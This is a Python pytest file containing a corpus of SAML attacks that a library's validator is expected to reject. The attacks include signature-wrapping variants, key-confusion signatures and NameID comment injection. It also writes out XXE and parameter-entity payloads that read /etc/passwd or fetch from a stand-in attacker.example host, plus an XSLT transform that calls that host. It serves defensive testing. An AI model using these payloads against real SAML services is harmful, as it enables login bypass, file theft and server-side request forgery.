"""The SAML attack corpus: every case of README.md, rejected (or accepted) as it says.

Each case starts from a response that a genuine IdP (``nulabpass.saml.testing``, keys
generated per run) signed for alice@example.com, then applies the attack. A case names
its origin in README.md; the expected outcome is an exact error code, or ``accept`` with
the NameID that must be read.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import attrs
import pytest
from lxml import etree

from nulabpass.saml import (
    IdpConfig,
    MemoryReplayCache,
    SamlPolicy,
    SamlValidationError,
    SamlValidator,
    record_assertion,
)
from nulabpass.saml._xmlsec import xmlsec
from nulabpass.saml.testing import (
    TestIdentityProvider,
    TestKeyPair,
    encrypt_assertion,
    make_key_pair,
    sign_element,
)

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
NOW = datetime(2026, 12, 4, 9, 0, tzinfo=UTC)
SP = "https://sp.example.test/saml/metadata"
ACS = "https://sp.example.test/saml/acs"
REQUEST = "_request0001"
LIFETIME = timedelta(minutes=5)
SKEW = timedelta(seconds=60)


@attrs.frozen
class Env:
    idp: TestIdentityProvider
    config: IdpConfig
    sp: TestKeyPair
    attacker: TestKeyPair

    def tree(self, **fields: object) -> etree._Element:
        options: dict[str, object] = {
            "sp_entity_id": SP,
            "acs_url": ACS,
            "name_id": "alice@example.com",
            "now": NOW,
            "in_response_to": REQUEST,
        }
        options.update(fields)
        return self.idp.response_tree(**options)  # type: ignore[arg-type]

    def signed(
        self, *, response: bool = False, assertion: bool = True, **fields: object
    ) -> etree._Element:
        root = self.tree(**fields)
        if assertion:
            self.idp.sign(_assertion(root))
        if response:
            self.idp.sign(root)
        # Re-parse: lxml's find() does not match nodes that libxmlsec1 created in place.
        return etree.fromstring(etree.tostring(root))


@attrs.frozen
class Attempt:
    xml: bytes
    now: datetime = NOW
    request_id: str | None = REQUEST
    replays: int = 0


def _assertion(root: etree._Element) -> etree._Element:
    found = root.find(f"{{{SAML}}}Assertion")
    assert found is not None
    return found


def _sig(element: etree._Element) -> etree._Element:
    found = element.find(f"{{{DS}}}Signature")
    assert found is not None
    return found


def _evil_copy(assertion: etree._Element, *, new_id: str = "_evil") -> etree._Element:
    evil = copy.deepcopy(assertion)
    evil.set("ID", new_id)
    name_id = evil.find(f".//{{{SAML}}}NameID")
    assert name_id is not None
    name_id.text = "admin@example.com"
    signature = evil.find(f"{{{DS}}}Signature")
    if signature is not None:
        evil.remove(signature)
    return evil


def _xml(root: etree._Element) -> Attempt:
    return Attempt(etree.tostring(root))


# -- XML signature wrapping (XSW1-8 as catalogued by SAML Raider, after Somorovsky et al.)


def xsw1(env: Env) -> Attempt:
    original = env.signed(response=True, assertion=False)
    evil = copy.deepcopy(original)
    evil.set("ID", "_evilresponse")
    evil.remove(_sig(evil))
    _assertion(evil).find(f".//{{{SAML}}}NameID").text = "admin@example.com"  # type: ignore[union-attr]
    signature = copy.deepcopy(_sig(original))
    signature.append(original)  # the signed original hides inside the Signature
    evil.insert(1, signature)
    return _xml(evil)


def xsw2(env: Env) -> Attempt:
    original = env.signed(response=True, assertion=False)
    evil = copy.deepcopy(original)
    evil.set("ID", "_evilresponse")
    evil.remove(_sig(evil))
    _assertion(evil).find(f".//{{{SAML}}}NameID").text = "admin@example.com"  # type: ignore[union-attr]
    signature = copy.deepcopy(_sig(original))
    evil.insert(1, original)  # detached: the original precedes the copied signature
    evil.insert(2, signature)
    return _xml(evil)


def xsw3(env: Env) -> Attempt:
    root = env.signed()
    original = _assertion(root)
    root.insert(list(root).index(original), _evil_copy(original))
    return _xml(root)


def xsw4(env: Env) -> Attempt:
    root = env.signed()
    original = _assertion(root)
    evil = _evil_copy(original)
    root.replace(original, evil)
    evil.append(original)
    return _xml(root)


def xsw5(env: Env) -> Attempt:
    root = env.signed()
    original = _assertion(root)
    evil = copy.deepcopy(original)
    evil.find(f".//{{{SAML}}}NameID").text = "admin@example.com"  # type: ignore[union-attr]
    unsigned_original = copy.deepcopy(original)
    unsigned_original.remove(_sig(unsigned_original))
    root.replace(original, evil)
    root.append(unsigned_original)
    return _xml(root)


def xsw6(env: Env) -> Attempt:
    root = env.signed()
    original = _assertion(root)
    evil = copy.deepcopy(original)
    evil.find(f".//{{{SAML}}}NameID").text = "admin@example.com"  # type: ignore[union-attr]
    hidden = copy.deepcopy(original)
    hidden.remove(_sig(hidden))
    obj = etree.SubElement(_sig(evil), f"{{{DS}}}Object")
    obj.append(hidden)
    root.replace(original, evil)
    return _xml(root)


def xsw7(env: Env) -> Attempt:
    root = env.signed()
    original = _assertion(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    root.replace(original, _evil_copy(original, new_id=original.get("ID", "")))
    extensions.append(original)
    root.insert(1, extensions)
    return _xml(root)


def xsw8(env: Env) -> Attempt:
    root = env.signed()
    original = _assertion(root)
    evil = copy.deepcopy(original)
    evil.find(f".//{{{SAML}}}NameID").text = "admin@example.com"  # type: ignore[union-attr]
    hidden = copy.deepcopy(original)
    hidden.remove(_sig(hidden))
    obj = etree.SubElement(_sig(evil), f"{{{DS}}}Object")
    obj.append(hidden)
    root.replace(original, evil)
    return _xml(root)


def wrap_signed_error_response(env: Env) -> Attempt:
    # A genuinely signed assertion-less Response hidden in Extensions; the root's own
    # (copied) signature points at it, and the root carries an unsigned evil assertion.
    error = env.tree(status="urn:oasis:names:tc:SAML:2.0:status:Requester")
    error.remove(_assertion(error))
    env.idp.sign(error)
    evil = env.tree(name_id="admin@example.com")
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(error)
    evil.insert(1, copy.deepcopy(_sig(error)))
    evil.insert(2, extensions)
    return _xml(evil)


def reference_to_other_element(env: Env) -> Attempt:
    root = env.signed(assertion=False)
    assertion = _assertion(root)
    subject = assertion.find(f"{{{SAML}}}Subject")
    assert subject is not None
    subject.set("ID", "_subject")
    sign_element(subject, env.idp.keys.key_pem)  # signs only the Subject
    signature = _sig(subject)
    assertion.insert(1, signature)  # moved next to the assertion it does not cover
    return _xml(root)


def empty_reference_uri(env: Env) -> Attempt:
    root = env.signed()
    reference = _sig(_assertion(root)).find(f".//{{{DS}}}Reference")
    assert reference is not None
    reference.set("URI", "")
    return _xml(root)


def two_references(env: Env) -> Attempt:
    root = env.signed()
    info = _sig(_assertion(root)).find(f"{{{DS}}}SignedInfo")
    assert info is not None
    reference = info.find(f"{{{DS}}}Reference")
    info.append(copy.deepcopy(reference))
    return _xml(root)


def signature_in_extensions(env: Env) -> Attempt:
    root = env.signed()
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(copy.deepcopy(_sig(_assertion(root))))
    root.insert(1, extensions)
    return _xml(root)


# -- signature and key handling


def signature_stripped(env: Env) -> Attempt:
    root = env.signed()
    assertion = _assertion(root)
    assertion.remove(_sig(assertion))
    return _xml(root)


def keyinfo_certificate_injection(env: Env) -> Attempt:
    root = env.tree(name_id="admin@example.com")
    sign_element(_assertion(root), env.attacker.key_pem, cert_pem=env.attacker.cert_pem)
    return _xml(root)


def hmac_key_confusion(env: Env) -> Attempt:
    # HMAC keyed with the IdP's public certificate, which an attacker knows.
    root = env.tree(name_id="admin@example.com")
    assertion = _assertion(root)
    signature = xmlsec.template.create(
        assertion, xmlsec.Transform.EXCL_C14N, xmlsec.Transform.HMAC_SHA256, ns="ds"
    )
    assertion.insert(1, signature)
    ref = xmlsec.template.add_reference(
        signature, xmlsec.Transform.SHA256, uri="#" + assertion.get("ID")
    )
    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
    ctx = xmlsec.SignatureContext()
    ctx.register_id(assertion, "ID")
    ctx.key = xmlsec.Key.from_binary_data(xmlsec.KeyData.HMAC, env.idp.keys.cert_pem)
    ctx.sign(signature)
    return _xml(root)


def sha1_signature(env: Env) -> Attempt:
    root = env.tree()
    sign_element(
        _assertion(root),
        env.idp.keys.key_pem,
        signature_method=xmlsec.Transform.RSA_SHA1,
        digest_method=xmlsec.Transform.SHA1,
    )
    return _xml(root)


def sha1_digest_only(env: Env) -> Attempt:
    root = env.tree()
    sign_element(_assertion(root), env.idp.keys.key_pem, digest_method=xmlsec.Transform.SHA1)
    return _xml(root)


def _add_transform(env: Env, algorithm: str, body: str = "") -> Attempt:
    root = env.signed()
    transforms = _sig(_assertion(root)).find(f".//{{{DS}}}Transforms")
    assert transforms is not None
    transform = etree.SubElement(transforms, f"{{{DS}}}Transform", Algorithm=algorithm)
    if body:
        transform.append(etree.fromstring(body))
    return _xml(root)


def xslt_transform(env: Env) -> Attempt:
    return _add_transform(
        env,
        "http://www.w3.org/TR/1999/REC-xslt-19991116",
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<xsl:template match="/"><xsl:copy-of select="document(\'http://attacker.example/\')"/>'
        "</xsl:template></xsl:stylesheet>",
    )


def xpath_transform(env: Env) -> Attempt:
    root = env.signed()
    transform = _sig(_assertion(root)).find(f".//{{{DS}}}Transform")
    assert transform is not None
    transform.set("Algorithm", "http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(transform, f"{{{DS}}}XPath").text = "not(ancestor-or-self::saml:NameID)"
    return _xml(root)


# -- text injection into NameID


def _signed_with_name_id(env: Env, build_name_id: Callable[[etree._Element], None]) -> bytes:
    root = env.tree()
    name_id = root.find(f".//{{{SAML}}}NameID")
    assert name_id is not None
    build_name_id(name_id)
    env.idp.sign(_assertion(root))
    return etree.tostring(root)


def comment_in_name_id(env: Env) -> Attempt:
    def build(name_id: etree._Element) -> None:
        name_id.text = "admin@example.com"
        comment = etree.Comment("")
        comment.tail = ".evil.example"
        name_id.append(comment)

    return Attempt(_signed_with_name_id(env, build))


def cdata_in_name_id(env: Env) -> Attempt:
    # The IdP signed admin@example.com.evil.example; part of it is re-sent as a CDATA
    # section, which has the same canonical form: the full value must still be read.
    xml = _signed_with_name_id(env, lambda n: setattr(n, "text", "admin@example.com.evil.example"))
    return Attempt(
        xml.replace(
            b"admin@example.com.evil.example", b"admin@example.com<![CDATA[.evil.example]]>"
        )
    )


def comment_injected_after_signing(env: Env) -> Attempt:
    # The signed value is alice@example.com.evil.example; a comment inserted in transit
    # leaves exclusive C14N (without comments) unchanged: the full value must be read.
    xml = _signed_with_name_id(env, lambda n: setattr(n, "text", "admin@example.com.evil.example"))
    return Attempt(xml.replace(b"admin@example.com.evil", b"admin@example.com<!---->.evil"))


# -- parser attacks


def _with_prologue(env: Env, prologue: bytes, entity_ref: bytes = b"") -> Attempt:
    xml = etree.tostring(env.signed())
    if entity_ref:
        xml = xml.replace(b"alice@example.com", entity_ref, 1)
    return Attempt(prologue + xml)


def xxe_external_entity(env: Env) -> Attempt:
    return _with_prologue(
        env,
        b'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b"&xxe;",
    )


def billion_laughs(env: Env) -> Attempt:
    entities = b'<!ENTITY l0 "lol">' + b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"".join(b"&l%d;" % (i - 1) for _ in range(10)))
        for i in range(1, 10)
    )
    return _with_prologue(env, b"<!DOCTYPE samlp:Response [" + entities + b"]>", b"&l9;")


def parameter_entity_ssrf(env: Env) -> Attempt:
    return _with_prologue(
        env,
        b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
    )


def undeclared_entity(env: Env) -> Attempt:
    xml = etree.tostring(env.signed()).replace(b"alice@example.com", b"&admin;", 1)
    return Attempt(xml)


def deep_nesting(env: Env) -> Attempt:
    xml = etree.tostring(env.signed())
    return Attempt(
        xml.replace(b"</samlp:Response>", b"<a>" * 100 + b"</a>" * 100 + b"</samlp:Response>")
    )


def oversized(env: Env) -> Attempt:
    xml = etree.tostring(env.signed())
    padding = b"<!--" + b"x" * 300_000 + b"-->"
    return Attempt(xml.replace(b"</samlp:Response>", padding + b"</samlp:Response>"))


# -- structure


def duplicate_ids(env: Env) -> Attempt:
    root = env.signed()
    root.set("ID", _assertion(root).get("ID", ""))
    return _xml(root)


def xml_id_injection(env: Env) -> Attempt:
    root = env.signed()
    root.set("{http://www.w3.org/XML/1998/namespace}id", _assertion(root).get("ID", ""))
    return _xml(root)


def two_assertions(env: Env) -> Attempt:
    root = env.signed()
    second = env.signed(name_id="admin@example.com")
    root.append(_assertion(second))
    return _xml(root)


def no_assertion(env: Env) -> Attempt:
    root = env.signed(response=False)
    root.remove(_assertion(root))
    env.idp.sign(root)
    return _xml(root)


def encrypted_rsa_1_5(env: Env) -> Attempt:
    root = env.signed()
    encrypt_assertion(_assertion(root), env.sp.cert_pem, key_transport=xmlsec.Transform.RSA_PKCS1)
    return _xml(root)


def encrypted_tampered(env: Env) -> Attempt:
    root = env.signed()
    encrypt_assertion(_assertion(root), env.sp.cert_pem)
    value = root.find(
        ".//{http://www.w3.org/2001/04/xmlenc#}EncryptedData/"
        "{http://www.w3.org/2001/04/xmlenc#}CipherData/"
        "{http://www.w3.org/2001/04/xmlenc#}CipherValue"
    )
    assert value is not None
    assert value.text
    text = value.text.strip()
    value.text = text[:40] + ("A" if text[40] != "A" else "B") + text[41:]
    return _xml(root)


def encrypted_unsigned(env: Env) -> Attempt:
    root = env.tree(name_id="admin@example.com")  # anyone can encrypt to the SP's key
    encrypt_assertion(_assertion(root), env.sp.cert_pem)
    return _xml(root)


# -- every condition off by one


def _field(**fields: object) -> Callable[[Env], Attempt]:
    def make(env: Env) -> Attempt:
        return _xml(env.signed(response=True, **fields))

    return make


def _at(offset: timedelta) -> Callable[[Env], Attempt]:
    def make(env: Env) -> Attempt:
        root = env.tree()
        assertion = _assertion(root)
        # Issued at the start of its validity, so that NotBefore is the first bound hit.
        conditions = assertion.find(f"{{{SAML}}}Conditions")
        assert conditions is not None
        assertion.set("IssueInstant", conditions.get("NotBefore", ""))
        env.idp.sign(assertion)
        return Attempt(etree.tostring(root), now=NOW + offset)

    return make


def unsolicited_with_in_response_to(env: Env) -> Attempt:
    return Attempt(etree.tostring(env.signed()), request_id=None)


def unsolicited_not_allowed(env: Env) -> Attempt:
    return Attempt(etree.tostring(env.signed(in_response_to=None)), request_id=None)


def state_mismatch(env: Env) -> Attempt:
    # A response to a request issued to another browser (login CSRF / injection).
    return Attempt(etree.tostring(env.signed(in_response_to="_request_of_victim")))


def replay(env: Env) -> Attempt:
    return Attempt(etree.tostring(env.signed()), replays=1)


def genuine(env: Env) -> Attempt:
    return Attempt(etree.tostring(env.signed(response=True)))


@attrs.frozen
class Case:
    id: str
    make: Callable[[Env], Attempt]
    expected: str  # an error code, or "accept:<name_id>"


CASES = [
    Case("genuine", genuine, "accept:alice@example.com"),
    Case("xsw1", xsw1, "saml.assertion_count"),
    Case("xsw2", xsw2, "saml.assertion_count"),
    Case("xsw3", xsw3, "saml.assertion_count"),
    Case("xsw4", xsw4, "saml.assertion_count"),
    Case("xsw5", xsw5, "saml.assertion_count"),
    Case("xsw6", xsw6, "saml.assertion_count"),
    Case("xsw7", xsw7, "saml.assertion_count"),
    Case("xsw8", xsw8, "saml.assertion_count"),
    Case("xsw-signed-error-response", wrap_signed_error_response, "saml.signature_misplaced"),
    Case("reference-to-other-element", reference_to_other_element, "saml.reference_invalid"),
    Case("empty-reference-uri", empty_reference_uri, "saml.reference_invalid"),
    Case("two-references", two_references, "saml.reference_invalid"),
    Case("signature-in-extensions", signature_in_extensions, "saml.signature_misplaced"),
    Case("signature-stripped", signature_stripped, "saml.signature_missing"),
    Case("keyinfo-certificate-injection", keyinfo_certificate_injection, "saml.signature_invalid"),
    Case("hmac-key-confusion", hmac_key_confusion, "saml.algorithm_refused"),
    Case("sha1-signature", sha1_signature, "saml.algorithm_refused"),
    Case("sha1-digest", sha1_digest_only, "saml.algorithm_refused"),
    Case("xslt-transform", xslt_transform, "saml.algorithm_refused"),
    Case("xpath-transform", xpath_transform, "saml.algorithm_refused"),
    Case("comment-in-name-id", comment_in_name_id, "accept:admin@example.com.evil.example"),
    Case("cdata-in-name-id", cdata_in_name_id, "accept:admin@example.com.evil.example"),
    Case(
        "comment-injected-after-signing",
        comment_injected_after_signing,
        "accept:admin@example.com.evil.example",
    ),
    Case("xxe-external-entity", xxe_external_entity, "saml.malformed"),
    Case("billion-laughs", billion_laughs, "saml.malformed"),
    Case("parameter-entity-ssrf", parameter_entity_ssrf, "saml.malformed"),
    Case("undeclared-entity", undeclared_entity, "saml.malformed"),
    Case("deep-nesting", deep_nesting, "saml.malformed"),
    Case("oversized", oversized, "saml.too_large"),
    Case("duplicate-ids", duplicate_ids, "saml.duplicate_id"),
    Case("xml-id-injection", xml_id_injection, "saml.malformed"),
    Case("two-assertions", two_assertions, "saml.assertion_count"),
    Case("no-assertion", no_assertion, "saml.assertion_count"),
    Case("encrypted-rsa-1-5", encrypted_rsa_1_5, "saml.decryption_failed"),
    Case("encrypted-tampered", encrypted_tampered, "saml.decryption_failed"),
    Case("encrypted-unsigned", encrypted_unsigned, "saml.signature_missing"),
    Case(
        "issuer-off",
        _field(issuer="https://idp.example.test/saml/metadata/"),
        "saml.issuer_mismatch",
    ),
    Case("audience-off", _field(audience=SP + "/"), "saml.audience_mismatch"),
    Case("recipient-off", _field(recipient=ACS + "/"), "saml.recipient_mismatch"),
    Case("destination-off", _field(destination=ACS + "/"), "saml.destination_mismatch"),
    Case(
        "status-off",
        _field(status="urn:oasis:names:tc:SAML:2.0:status:Responder"),
        "saml.status_not_success",
    ),
    Case(
        "in-response-to-off", _field(in_response_to=REQUEST + "1"), "saml.in_response_to_mismatch"
    ),
    Case(
        "not-on-or-after-last-second",
        _at(LIFETIME + SKEW - timedelta(seconds=1)),
        "accept:alice@example.com",
    ),
    Case("not-on-or-after-reached", _at(LIFETIME + SKEW), "saml.expired"),
    Case(
        "not-before-first-second", _at(-timedelta(seconds=30) - SKEW), "accept:alice@example.com"
    ),
    Case("not-before-one-second-early", _at(-timedelta(seconds=31) - SKEW), "saml.not_yet_valid"),
    Case(
        "unsolicited-with-in-response-to",
        unsolicited_with_in_response_to,
        "saml.unexpected_in_response_to",
    ),
    Case("unsolicited-not-allowed", unsolicited_not_allowed, "saml.unsolicited"),
    Case("state-mismatch", state_mismatch, "saml.in_response_to_mismatch"),
    Case("replay", replay, "saml.replay"),
]


@pytest.fixture(scope="module")
def env() -> Env:
    idp = TestIdentityProvider()
    return Env(
        idp=idp, config=idp.config(), sp=make_key_pair("sp"), attacker=make_key_pair("attacker")
    )


def test_the_readme_lists_every_case_and_only_those() -> None:
    from pathlib import Path

    readme = (Path(__file__).parent / "README.md").read_text()
    listed = {
        line.split("|")[1].strip(" `") for line in readme.splitlines() if line.startswith("| `")
    }
    assert listed == {case.id for case in CASES}


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_corpus_case_has_its_documented_outcome(env: Env, case: Case) -> None:
    attempt = case.make(env)
    policy = SamlPolicy(sp_entity_id=SP, acs_url=ACS)
    validator = SamlValidator(env.config, policy, [env.sp.key_pem])
    cache = MemoryReplayCache()

    def run() -> str:
        login = validator.validate(attempt.xml, now=attempt.now, request_id=attempt.request_id)
        record_assertion(cache, login, policy=policy, now=attempt.now)
        return login.name_id

    if case.expected.startswith("accept:"):
        assert run() == case.expected.removeprefix("accept:")
        return
    for _ in range(attempt.replays):
        run()
    with pytest.raises(SamlValidationError) as info:
        run()
    assert info.value.code == case.expected, info.value.message
